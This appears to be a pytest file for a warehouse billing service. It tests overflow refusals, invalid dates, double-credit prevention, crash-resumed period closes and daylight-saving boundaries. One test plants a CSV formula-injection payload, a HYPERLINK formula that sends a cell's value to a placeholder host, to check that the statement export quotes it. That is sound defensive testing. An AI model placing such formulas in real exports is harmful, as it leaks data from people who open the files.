"""Billing at its edges, as a careless supervisor, a buggy client and the owner's accountant
meet it: absurd rates, bad days, work that was never done, a line credited twice."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from server import clock
from server.billing import closing, service
from server.billing.schemas import CreditLine, SourceOut
from server.chunked import run_chunked_command
from server.commands import SYSTEM
from server.db import Database
from server.errors import DomainError
from tests.billing import site
from tests.billing.site import at
from tests.conftest import Api, seed_basics

IN_MARCH = datetime(2025, 3, 10, 2, tzinfo=UTC)


def _tariff(api: Api, rates: dict[str, int], **more: object) -> None:
    answer = api.post(
        "/api/v1/billing/tariffs",
        json={
            "effective_from": "2025-01-01",
            "reason": "contract",
            "rates": [{"charge_code": c, "rate_fen": r} for c, r in rates.items()],
            **more,
        },
    )
    assert answer.status_code == 200, answer.text


def _service(api: Api, quantity: int, code: str = "service.photo") -> None:
    with clock.use(clock.ManualClock(IN_MARCH)):
        answer = api.post(
            "/api/v1/billing/services",
            json={"customer": "C1", "charge_code": code, "quantity": quantity},
        )
    assert answer.status_code == 200, answer.text


def test_an_amount_past_what_a_bill_holds_is_refused_with_a_code_and_nothing_stored(
    api: Api,
) -> None:
    seed_basics(api)
    _tariff(api, {"service.photo": 10**12})  # the largest rate the API takes
    _service(api, 10_000_000)  # the largest quantity: 10^19 fen, past SQLite's 64 bits

    preview = api.get("/api/v1/billing/preview", params={"period": "2025-03", "customer": "C1"})
    assert preview.status_code == 422, preview.text
    assert preview.json()["error"]["details"] == {
        "customer": "C1",
        "charge_code": "service.photo",
        "day": "2025-03-10",
    }
    closed = api.post("/api/v1/billing/periods/2025-03/close")
    assert closed.status_code == 422, closed.text
    assert closed.json()["error"]["code"] == "BILLING_AMOUNT_TOO_LARGE"
    assert api.get("/api/v1/billing/periods").json() == []
    assert api.get("/api/v1/billing/statements").json() == []


def test_a_statement_whose_lines_sum_past_what_a_page_shows_exactly_is_refused(api: Api) -> None:
    seed_basics(api)
    # Each line fits; their sum is past 2^53 fen, where a browser's numbers stop being exact.
    _tariff(api, {"service.photo": 10**12, "service.kitting": 10**12})
    _service(api, 5_000, "service.photo")
    _service(api, 5_000, "service.kitting")
    preview = api.get("/api/v1/billing/preview", params={"period": "2025-03", "customer": "C1"})
    assert preview.json()["error"]["code"] == "BILLING_AMOUNT_TOO_LARGE", preview.text


def test_a_tariff_day_that_is_no_day_is_named_in_the_refusal(api: Api) -> None:
    seed_basics(api)
    answer = api.post(
        "/api/v1/billing/tariffs",
        json={"effective_from": "2025-02-30", "reason": "x", "rates": []},
    )
    assert answer.json()["error"] == {
        "code": "BILLING_DAY_INVALID",
        "message": "2025-02-30 is not a day (YYYY-MM-DD)",
        "details": {"day": "2025-02-30"},
    }


def _floor_tasks(db: Database) -> None:
    """An order of C1 with four tasks done in March: a return to stock and a move to the
    inspection lane really done ('moved'), and an inspection task closed because customs
    released the order first; a location counted, beyond the threshold, and recounted."""
    stamp = clock.stamp(at("2025-03-12"))

    def write(conn: Any) -> None:
        conn.execute(
            "INSERT INTO orders (id, customer_id, order_no, courier, waybill_no, label, "
            "content_hash, created_at, updated_at) VALUES (1, 1, 'O-1', 'SF', 'W-1', '', '', ?, ?)",
            (stamp, stamp),
        )
        conn.executemany(
            "INSERT INTO order_tasks (id, order_id, kind, status, outcome, created_at, done_at) "
            "VALUES (?, 1, ?, 'done', ?, ?, ?)",
            [
                (1, "return_to_stock", "moved", stamp, stamp),
                (2, "to_inspection", "moved", stamp, stamp),
                (3, "to_inspection", "released by customs", stamp, stamp),
            ],
        )
        conn.executemany(
            "INSERT INTO count_tasks (id, location_id, status, origin, recount_of, outcome, "
            "created_by, created_at, submitted_at) VALUES (?, 2, 'submitted', ?, ?, ?, 's', ?, ?)",
            [
                (1, "location", None, "recount", stamp, stamp),
                (2, "recount", 1, "proposals", stamp, stamp),
            ],
        )
        conn.executemany(
            "INSERT INTO count_lines (task_id, customer_id, sku_id, expected, counted) "
            "VALUES (?, 1, 1, 10, 9)",
            [(1,), (2,)],
        )

    db._write(write)


def test_only_order_tasks_whose_goods_were_moved_and_one_count_per_recount_are_charged(
    db: Database,
) -> None:
    site.seed(db)
    _floor_tasks(db)
    codes = ("exception.return_to_stock", "exception.inspection", "exception.cycle_count")
    site.set_tariff(
        db,
        at("2025-01-01"),
        effective_from="2025-01-01",
        rates=[{"charge_code": c, "rate_fen": 100} for c in codes],
    )
    lines = {x.charge_code: x for x in site.preview(db, "2025-03").lines}
    assert {c: (lines[c].quantity, lines[c].sources) for c in codes} == {
        "exception.return_to_stock": (1, [SourceOut(kind="order_task", ref="1")]),
        "exception.inspection": (1, [SourceOut(kind="order_task", ref="2")]),
        "exception.cycle_count": (1, [SourceOut(kind="count_task", ref="1")]),
    }


def test_a_line_credited_before_its_period_was_reopened_is_not_credited_again(
    db: Database,
) -> None:
    site.seed(db)
    site.set_tariff(
        db,
        at("2026-01-01"),
        effective_from="2026-01-01",
        rates=[{"charge_code": "inbound.unit", "rate_fen": 10}],
    )
    site.move(db, at("2026-11-03"), "receive", 1, 10, None, 1)
    first = site.close(db, at("2026-12-01"), "2026-11")["statements"][0]["id"]
    [line] = db.read(lambda c: service.stored_statement(c, first)).lines
    _credit(db, line.id, None)  # the whole 100 fen, on December's statement

    site.command(
        db,
        at("2026-12-06"),
        "billing.reopen_period",
        lambda conn, ctx: service.reopen_period(conn, ctx, "2026-11", "a receipt re-dated"),
    )
    second = site.close(db, at("2026-12-07"), "2026-11")["statements"][0]["id"]
    [again] = db.read(lambda c: service.stored_statement(c, second)).lines
    with pytest.raises(DomainError) as refused:
        _credit(db, again.id, None)
    assert (refused.value.code, refused.value.details["left_fen"]) == (
        "BILLING_CREDIT_TOO_LARGE",
        0,
    )
    assert site.preview(db, "2026-12").credits_fen == 100


def _credit(db: Database, line_id: int, amount: int | None) -> Any:
    req = CreditLine(line_id=line_id, amount_fen=amount, reason="disputed")
    return site.command(
        db, at("2026-12-05"), "billing.credit_line", lambda c, ctx: service.credit_line(c, ctx, req)
    )


def test_a_blank_reason_reopens_credits_or_prices_nothing(api: Api) -> None:
    seed_basics(api)
    for path, body in (
        ("/api/v1/billing/periods/2025-03/reopen", {}),
        ("/api/v1/billing/credits", {"line_id": 1}),
        ("/api/v1/billing/tariffs", {"effective_from": "2025-01-01", "rates": []}),
    ):
        for blank in (" ", "\u3000\u3000", " \u00a0 "):
            answer = api.post(path, json={**body, "reason": blank})
            assert answer.status_code == 400, (path, blank, answer.text)
            assert answer.json()["error"]["code"] == "VALIDATION_FAILED"
    assert api.get("/api/v1/billing/tariffs").json() == []


def _crash_after_the_first_statement(db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    """A November with C1 and C2 received, closed until C1's statement is stored, then the
    server stops."""
    site.seed(db)
    site.set_tariff(
        db,
        at("2026-01-01"),
        effective_from="2026-01-01",
        rates=[{"charge_code": "inbound.unit", "rate_fen": 10}],
    )
    site.move(db, at("2026-11-03"), "receive", 1, 10, None, 1)
    site.move(db, at("2026-11-04"), "receive", 2, 10, None, 1)
    store = closing._store_head_and_lines
    stored: list[int] = []

    def crash_on_the_second(*args: Any) -> int:
        if stored:
            raise RuntimeError("the server stopped")
        stored.append(store(*args))
        return stored[-1]

    monkeypatch.setattr(closing, "_store_head_and_lines", crash_on_the_second)
    with pytest.raises(RuntimeError):
        _close_in_chunks(db, "close-nov")
    monkeypatch.setattr(closing, "_store_head_and_lines", store)


def test_a_close_resumed_after_a_crash_is_refused_when_facts_of_the_month_came_meanwhile(
    db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    _crash_after_the_first_statement(db, monkeypatch)
    site.move(db, at("2026-11-20"), "receive", 1, 5, None, 1)  # a late fact of November
    with pytest.raises(DomainError) as refused:
        _close_in_chunks(db, "close-nov")  # the client's retry of the same key
    assert refused.value.code == "BILLING_FACTS_CHANGED"

    closed = _close_in_chunks(db, "close-nov-again")
    totals = {s["customer"]: s["total_fen"] for s in closed["statements"]}
    assert totals == {"C1": 15 * 10, "C2": 10 * 10}


def test_a_close_resumed_after_a_crash_without_new_facts_finishes_as_computed(
    db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    _crash_after_the_first_statement(db, monkeypatch)
    site.move(db, at("2026-12-01", "09:00"), "receive", 1, 5, None, 1)  # December's work
    closed = _close_in_chunks(db, "close-nov")
    totals = {s["customer"]: s["total_fen"] for s in closed["statements"]}
    assert totals == {"C1": 10 * 10, "C2": 10 * 10}


def _close_in_chunks(db: Database, key: str) -> Any:
    with clock.use(clock.ManualClock(at("2026-12-01", "08:00"))):
        prepared = db.read(lambda c: closing.prepare_close(c, site.TZ, "2026-11"))
        job = closing.ClosePeriodJob(prepared, site.TZ)
        return run_chunked_command(
            db, SYSTEM, "billing.close_period", key, {"period": "2026-11"}, job, chunk_ms=0
        ).value


def test_a_credit_reason_a_spreadsheet_would_run_is_quoted_in_the_statement_csv(
    db: Database,
) -> None:
    site.seed(db)
    site.set_tariff(
        db,
        at("2026-01-01"),
        effective_from="2026-01-01",
        rates=[{"charge_code": "inbound.unit", "rate_fen": 10}],
    )
    site.move(db, at("2026-11-03"), "receive", 1, 10, None, 1)
    november = site.close(db, at("2026-12-01"), "2026-11")["statements"][0]["id"]
    [line] = db.read(lambda c: service.stored_statement(c, november)).lines
    formula = '=HYPERLINK("http://x.example/?"&A1,"refund")'
    req = CreditLine(line_id=line.id, amount_fen=30, reason=formula)
    site.command(
        db, at("2026-12-05"), "billing.credit_line", lambda c, ctx: service.credit_line(c, ctx, req)
    )
    december = site.close(db, at("2027-01-01"), "2026-12")["statements"][0]["id"]

    text = db.read(lambda c: service.statement_csv(service.stored_statement(c, december)))
    rows = list(csv.reader(io.StringIO(text)))
    credit = next(r for r in rows if r[3] == "credit.disputed")
    assert (credit[8], credit[9]) == ("-30", "'" + formula)  # the amount stays a number


def test_a_site_with_summer_time_bills_every_day_of_its_months_and_the_edges_to_their_day(
    db: Database,
) -> None:
    berlin = ZoneInfo("Europe/Berlin")  # the time zone is a setting: one with DST changes

    def local(moment: str) -> datetime:
        return datetime.fromisoformat(moment).replace(tzinfo=berlin)

    site.seed(db)
    rates = ["storage.location_day.storage", "inbound.unit"]
    site.set_tariff(
        db,
        local("2026-01-01T09:00"),
        effective_from="2026-01-01",
        rates=[{"charge_code": c, "rate_fen": 1} for c in rates],
    )
    site.move(db, local("2026-02-20T10:00"), "receive", 1, 10, None, 1)
    site.move(db, local("2026-02-20T11:00"), "putaway", 1, 10, 1, 2)  # held all spring
    site.move(db, local("2026-03-31T23:59:59.999"), "receive", 1, 3, None, 1)
    site.move(db, local("2026-04-01T00:00:00"), "receive", 1, 4, None, 1)
    site.move(db, local("2026-10-31T23:59:59"), "receive", 1, 5, None, 1)

    def lines(period: str, code: str) -> dict[str, int]:
        st = db.read(lambda c: service.preview_statement(c, "Europe/Berlin", period, "C1"))
        return {x.day: x.quantity for x in st.lines if x.charge_code == code}

    march = lines("2026-03", "storage.location_day.storage")  # 23 hours on the 29th
    assert len(march) == 31 and set(march.values()) == {1}
    october = lines("2026-10", "storage.location_day.storage")  # 25 hours on the 25th
    assert len(october) == 31 and set(october.values()) == {1}
    assert lines("2026-03", "inbound.unit") == {"2026-03-31": 3}
    assert lines("2026-04", "inbound.unit") == {"2026-04-01": 4}
    assert lines("2026-10", "inbound.unit") == {"2026-10-31": 5}


def test_the_statement_recount_agrees_on_tasks_not_done_and_recounts(db: Database) -> None:
    from tests.billing.test_statement_recount import _recount

    site.seed(db)
    _floor_tasks(db)
    codes = ("exception.return_to_stock", "exception.inspection", "exception.cycle_count")
    site.set_tariff(
        db,
        at("2025-01-01"),
        effective_from="2025-01-01",
        rates=[{"charge_code": c, "rate_fen": 100} for c in codes],
    )
    [closed] = site.close(db, at("2025-04-01"), "2025-03")["statements"]

    run = _recount(db.path, closed["id"], "--tz", site.TZ, "--sources", "10")
    assert run.returncode == 0, run.stdout + run.stderr
